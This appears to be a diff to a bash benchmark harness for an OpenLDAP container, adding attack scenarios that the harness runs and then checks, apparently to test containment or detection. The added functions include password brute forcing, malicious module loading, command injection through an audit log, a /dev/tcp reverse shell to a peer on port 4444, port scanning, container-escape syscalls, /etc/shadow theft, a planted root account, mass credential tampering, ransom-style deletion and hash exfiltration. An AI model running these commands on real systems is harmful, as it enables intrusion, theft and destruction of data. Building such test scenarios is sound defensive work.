@@ -6,6 +6,9 @@
 # and backed up by slapcat.
 
 # shellcheck disable=SC2034,SC2154 # lib.bash and rare.bash read variables of this file, and set others
+# shellcheck source=bench/dataset/databases.bash
+. "${here:?}/databases.bash"
+
 set=test containers=(ldap) port=389 data_directory=/var/lib/ldap
 configuration_file=/etc/ldap/ldap.conf
 health=(/usr/bin/ldapsearch -x -LLL -H ldap://127.0.0.1/ -s base -b '' namingContexts)
@@ -112,6 +115,7 @@ outside_start() {
 	shift
 	nsenter -t "$peers_network_pid" -n env -i PATH=/usr/sbin:/usr/bin LANG=C.UTF-8 HOME=/mnt \
 		LDAPTLS_REQCERT=never chroot "$images/ldap" "$@" </dev/null >"$stage/peer-$name.log" 2>&1 &
+	# shellcheck disable=SC2004 # an associative array
 	peer_pid[$name]=$!
 	children[$!]=1
 }
@@ -431,6 +435,7 @@ rare_import() {
 # The latest backup is read into a database of its own, to see that it can be.
 rare_restore_tried() {
 	session ldap /usr/local/sbin/ldap-backup
+	# shellcheck disable=SC2016 # the container's shell
 	session ldap /bin/sh -c 'set -e; mkdir -p /tmp/try/db /tmp/try/log; cd /tmp/try
 		printf "%s\n" "include /etc/ldap/schema/core.schema" "include /etc/ldap/schema/cosine.schema" \
 			"include /etc/ldap/schema/nis.schema" "include /etc/ldap/schema/inetorgperson.schema" \
@@ -468,4 +473,184 @@ rare_many_clients() {
 	done
 	several_clients 15
 	wait "${pids[@]}" || true
+}
+
+# ---- attacks ----
+
+# The configuration's password is weak, and known to the attacker in most of these.
+configure_as_thief() {
+	tool_as config winter7 ldapmodify -c
+}
+
+attack_brute_force() {
+	local word
+	harm call accept
+	for word in {spring,summer,autumn,winter}{1..9}; do
+		! tool_as config "$word" ldapsearch -LLL -b cn=config olcRootPW </dev/null | grep -c '^olcRootPW' || return 0
+	done
+	return 1
+}
+
+# A module of the attacker's, which came as a file some other way.
+attack_module_loaded() {
+	harm mapx /tmp/libcache.so
+	harm read /etc/ldap/tls/key.pem
+	harm connect "$peer_address:4444"
+	thief_begin
+	preload_library "$(image_path ldap /tmp/libcache.so)" /etc/ldap/tls/key.pem
+	printf '%s\n' 'dn: cn=module,cn=config' 'changetype: add' 'objectClass: olcModuleList' 'cn: module' \
+		'olcModulePath: /tmp' 'olcModuleLoad: libcache.so' | configure_as_thief || true
+	thief_got 'PRIVATE KEY'
+}
+
+# The proxy asks the thief from now on, and tells its password.
+attack_proxy_redirected() {
+	harm connect "$peer_address:4444"
+	thief_begin
+	printf '%s\n' 'dn: olcDatabase={3}ldap,cn=config' 'changetype: modify' 'replace: olcDbURI' \
+		'olcDbURI: ldap://peer.example:4444/' | configure_as_thief
+	sleep 11 # until the proxy has closed the connection that it has
+	for _ in {1..4}; do
+		client_limit=3 tool ldapsearch -LLL -b dc=partner,dc=example '(cn=contact1)' || true
+		! grep -ac partner-secret "$stage/peer-thief.log" || return 0
+	done
+	return 1
+}
+
+# The audit log becomes the settings of the backup, which a shell of root reads.
+attack_audit_log() {
+	harm write /etc/ldap/backup.conf
+	harm exec /usr/bin/id
+	harm read /etc/shadow
+	printf '%s\n' 'dn: olcOverlay={4}auditlog,olcDatabase={2}mdb,cn=config' 'changetype: modify' \
+		'replace: olcAuditlogFile' 'olcAuditlogFile: /etc/ldap/backup.conf' | configure_as_thief
+	# shellcheck disable=SC2016 # the container's shell
+	printf '%s\n' "dn: uid=user3,ou=people,$base" 'changetype: modify' 'replace: description' \
+		'description: $(id>/tmp/out;cat /etc/shadow>>/tmp/out)' | tool_as user3 secret3 ldapmodify
+	session ldap /usr/local/sbin/ldap-backup || true
+	session ldap /bin/grep -c uid=0 /tmp/out
+}
+
+# server_shell COMMANDS: code inside the server, as after an overflow, starts a shell.
+server_shell() {
+	inject ldap /usr/sbin/slapd "print (int) system(\"${1//$'\n'/ }\")"
+}
+
+attack_code_shell() {
+	harm exec /usr/bin/dash
+	harm exec /usr/bin/id
+	harm write /tmp/out
+	server_shell 'id >/tmp/out; cat /etc/passwd >>/tmp/out'
+	session ldap /bin/grep -c uid=104 /tmp/out
+}
+
+# Code inside the server sends its key away; no program is started.
+attack_code_connect() {
+	harm read /etc/ldap/tls/key.pem
+	harm connect "$peer_address:4444"
+	thief_begin
+	code_steal ldap /usr/sbin/slapd /etc/ldap/tls/key.pem
+	thief_got 'PRIVATE KEY'
+}
+
+attack_code_machine() {
+	harm call mprotect
+	code_machine ldap /usr/sbin/slapd | grep '= 42'
+}
+
+attack_reverse_shell() {
+	harm exec /usr/bin/bash
+	harm connect "$peer_address:4444"
+	thief_shell 'id; ls -la /var/lib/ldap /etc/ldap; exit'
+	server_shell "bash -c 'exec bash -i >/dev/tcp/$peer_address/4444 2>&1 <&1' &"
+	thief_got uid=104
+}
+
+attack_miner() {
+	mining_begin /var/tmp/.slapd
+	server_shell "$mining_command"
+	pool_got
+}
+
+attack_scan() {
+	harm exec /usr/bin/bash
+	harm connect "$peer_address:22"
+	server_shell "bash -c 'for p in 21 22 25 53 80 389 443 3306 3389 5432 6379; do
+		(exec 3<>/dev/tcp/$peer_address/\$p) && echo open \$p; done >/tmp/ports 2>/dev/null'"
+	session ldap /bin/grep -c 'open 3389' /tmp/ports
+}
+
+# Ways out of the container, each tried by code inside the server.
+attack_escape() {
+	harm call mount
+	harm call unshare
+	harm call setns
+	harm call ptrace
+	code_inside ldap /usr/sbin/slapd 'print (int) mount("none", "/mnt", "tmpfs", 0, 0)' \
+		'print (int) unshare(0x10000000)' 'print (int) setns(0, 0)' 'print (long) ptrace(16, 2, 0, 0)' \
+		'print (int) open("/proc/sys/kernel/core_pattern", 1)' 'print (int) open("/proc/1/environ", 0)' |
+		grep -c = && alive "${container_pid[ldap]}"
+}
+
+# The engine's socket in the wrong hands: the hashes of all, and an account that stays.
+attack_stolen_engine() {
+	harm read /etc/shadow
+	harm write /etc/passwd
+	harm exec /usr/sbin/slapcat
+	session ldap /bin/sh -c 'cat /etc/shadow; slapcat -F /etc/ldap/slapd.d -b dc=service,dc=example;
+		echo ops:x:0:0::/root:/bin/sh >>/etc/passwd' | grep -c '^userPassword'
+}
+
+# ---- adaptive: by operations that clients use ----
+
+# The administrator's password was stolen: every entry, with its hash.
+adaptive_dump() {
+	harm call write
+	tool_as admin secret ldapsearch -LLL -b "$base" -E pr=100/noprompt '(objectClass=*)' '*' + </dev/null |
+		grep -c '^userPassword' >"$stage/answer"
+	[ "$(cat "$stage/answer")" -ge 140 ]
+}
+
+# As a follower that begins: all that the directory has.
+adaptive_follower() {
+	harm call write
+	tool_as replicator secret ldapsearch -LLL -b "$base" -E sync=ro '(objectClass=*)' '*' + </dev/null |
+		grep -c '^userPassword' >"$stage/answer"
+	[ "$(cat "$stage/answer")" -ge 140 ]
+}
+
+# Every person's mail goes elsewhere, and every password becomes the attacker's.
+adaptive_tamper() {
+	local i
+	harm write /var/log/slapd/audit.ldif
+	harm call pwrite64
+	for i in $(seq 150); do
+		printf 'dn: uid=user%d,ou=people,%s\nchangetype: modify\nreplace: mail\nmail: user%d@thief.example\n-\n' \
+			"$i" "$base" "$i"
+		printf 'replace: userPassword\nuserPassword: stolen%d\n\n' "$i"
+	done | tool_as admin secret ldapmodify -c | tail -n 1
+	tool_as user77 stolen77 ldapwhoami </dev/null
+}
+
+# All people are gone, and a note says what to pay.
+adaptive_ransom() {
+	harm write /var/log/slapd/audit.ldif
+	harm call pwrite64
+	tool_as admin secret ldapdelete -r "ou=people,$base" </dev/null
+	printf 'dn: ou=people,%s\nobjectClass: organizationalUnit\nou: people\ndescription: Pay for your people\n' "$base" |
+		tool_as admin secret ldapadd
+	[ "$(search '(uid=user*)' uid | grep -c ^uid)" = 0 ]
+}
+
+# Hashes are carried to the partner's directory, through the server's own proxy.
+adaptive_proxy_exfiltration() {
+	harm connect "$peer_address:3389"
+	sleep 11 # until the proxy has closed the connection that it has
+	tool_as admin secret ldapsearch -LLL -o ldif-wrap=no -b "ou=people,$base" '(uid=user1*)' userPassword </dev/null |
+		sed -n 's/^userPassword:: //p' | awk '{
+			printf "dn: cn=note%d,ou=inbox,dc=partner,dc=example\nobjectClass: device\ncn: note%d\n", NR, NR
+			printf "description: %s\n\n", $1 }' | tool_as admin secret ldapadd | tail -n 1
+	outside ldapsearch -x -LLL -H "ldap://$peer_address:3389/" -b ou=inbox,dc=partner,dc=example '(cn=note*)' \
+		description </dev/null | grep -c '^description' >"$stage/answer"
+	[ "$(cat "$stage/answer")" -ge 50 ]
 }
